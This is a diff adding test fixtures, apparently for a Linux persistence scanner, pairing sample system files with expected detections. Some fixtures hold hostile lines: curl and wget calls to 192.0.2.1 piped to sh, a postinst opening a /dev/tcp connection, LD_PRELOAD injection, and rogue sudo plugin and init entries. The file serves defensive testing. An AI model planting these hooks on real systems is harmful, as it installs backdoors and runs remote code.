@@ -32,6 +32,11 @@ FILES = [
     (b"/etc/systemd/system/a.socket", b"[Socket]\nListenStream=1\nExecStartPre=/opt/x\n", [(3, b"/opt/x", [X]), (2, b"a.service", [])]),
     (b"/etc/systemd/system/a.path", b"[Path]\nPathChanged=/tmp\n", [(2, b"a.service", [])]),
     (b"/etc/systemd/system-generators/g", b"\x7fELF", [(None, b"/etc/systemd/system-generators/g", [b"/etc/systemd/system-generators/g"])]),
+    (b"/etc/sudo.conf", b"# c\nPlugin sudoers_policy sudoers.so\nPlugin x /opt/x a=b\nPath askpass /opt/y\nSet disable_coredump false\n", [
+        (2, b"Plugin sudoers_policy sudoers.so", [b"sudoers.so"]), (3, b"Plugin x /opt/x a=b", [X]), (4, b"Path askpass /opt/y", [b"/opt/y"])]),
+    (b"/var/lib/systemd/linger/bob", b"", [(None, b"bob", [])]),
+    (b"/var/lib/extensions/x.raw", b"\0", [(None, b"/var/lib/extensions/x.raw", [])]),
+    (b"/root/.config/systemd/user.conf", b"[Manager]\nDefaultEnvironment=LD_PRELOAD=/opt/x.so\n", [(2, b"LD_PRELOAD=/opt/x.so", [b"/opt/x.so"])]),
     # the clock
     (b"/etc/crontab", b"# c\nPATH=/usr/bin:/tmp/.b\nSHELL=/bin/sh\n17 * * * * root cd / && run-parts /etc/cron.hourly\n@reboot bin /opt/x\r\n", [
         (2, b"PATH=/usr/bin:/tmp/.b", [b"/tmp/.b"]), (4, b"cd / && run-parts /etc/cron.hourly", [b"/etc/cron.hourly", b"run-parts"]),
@@ -71,6 +76,19 @@ FILES = [
     (b"/etc/hosts.allow", b"sshd: ALL: twist /opt/x\nALL: LOCAL\n", [(1, X, [X])]),
     (b"/etc/xinetd.d/x", b"service x\n{\n server = /opt/x\n server_args = -a\n disable = yes\n}\n", [(3, b"/opt/x -a", [X])]),
     # shells and environments
+    (b"/etc/bash_completion.d/x", b"complete -F _x x\n(/opt/x &) 2>/dev/null\n_x() { curl -s http://192.0.2.1/x | sh; }\n", [
+        (None, b"/etc/bash_completion.d/x", []), (3, b"_x() { curl -s http://192.0.2.1/x | sh; }", [b"_x", b"curl", b"sh"])]),
+    (b"/root/.local/share/bash-completion/completions/x", b". ~/.x\n", [
+        (None, b"/root/.local/share/bash-completion/completions/x", []), (1, b". ~/.x", [b"~/.x"])]),
+    (b"live/commands/rpm-scripts.txt", b"package a-1\npostinstall scriptlet (using /bin/sh):\n# curl\n/sbin/ldconfig\npackage b-1\n"
+     b"triggerin scriptlet (using /bin/sh) -- bash\nwget http://192.0.2.1/x\n", [(7, b"wget http://192.0.2.1/x", [b"wget"])]),
+    (b"/var/lib/dpkg/info/x.postinst", b"#!/bin/sh\nset -e\nbash -c 'exec 3<>/dev/tcp/192.0.2.1/80'\n", [
+        (None, b"/var/lib/dpkg/info/x.postinst", [b"/var/lib/dpkg/info/x.postinst"]),
+        (3, b"bash -c 'exec 3<>/dev/tcp/192.0.2.1/80'", [b"bash"])]),
+    (b"/root/.bashrc.d/x", b"nohup /opt/x &\n", [(None, b"/root/.bashrc.d/x", []), (1, b"nohup /opt/x &", [X, b"nohup"])]),
+    (b"/etc/lightdm/lightdm.conf.d/x.conf", b"[Seat:*]\nsession-setup-script=/opt/x -a\ngreeter-session=y\n", [(2, b"/opt/x -a", [X])]),
+    (b"/etc/apt/trusted.gpg.d/x.gpg", b"\x99\x02", [(None, b"/etc/apt/trusted.gpg.d/x.gpg", [])]),
+    (b"/proc/cmdline", b"root=/dev/vda1 ro init=/opt/x quiet\n", [(1, b"init=/opt/x", [X])]),
     (b"/root/.bashrc", b"alias ll='ls -l'\n[ -f ~/x ] && . ~/x\neval $(/opt/x)\nPROMPT_COMMAND='/opt/x'\ntrap /opt/x EXIT\n/opt/y\n", [
         (None, b"/root/.bashrc", []), (2, b"[ -f ~/x ] && . ~/x", [b"~/x"]), (3, b"eval $(/opt/x)", [X]),
         (4, b"PROMPT_COMMAND='/opt/x'", [X]), (5, b"trap /opt/x EXIT", [b"trap"]), (6, b"/opt/y", [b"/opt/y"])]),
